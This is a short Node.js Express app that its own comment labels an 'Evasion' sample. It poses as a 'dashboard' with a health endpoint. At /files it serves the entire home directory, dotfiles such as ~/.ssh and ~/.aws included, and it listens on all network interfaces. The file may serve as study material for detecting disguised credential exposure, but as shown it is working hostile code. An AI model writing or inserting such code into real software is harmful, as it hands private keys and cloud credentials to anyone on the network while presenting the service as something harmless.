// Evasion: serves the whole home directory (~/.ssh, ~/.aws with it) to the
// network as a "dashboard": express.static is given os.homedir() as its
// root, dotfiles allowed, and the app listens on every address.
'use strict';
const express = require('express');
const os = require('os');

const app = express();
app.get('/health', (req, res) => res.json({ ok: true }));
app.use('/files', express.static(os.homedir(), { dotfiles: 'allow', index: false }));
app.listen(8080, '0.0.0.0', () => console.log('dashboard on :8080'));
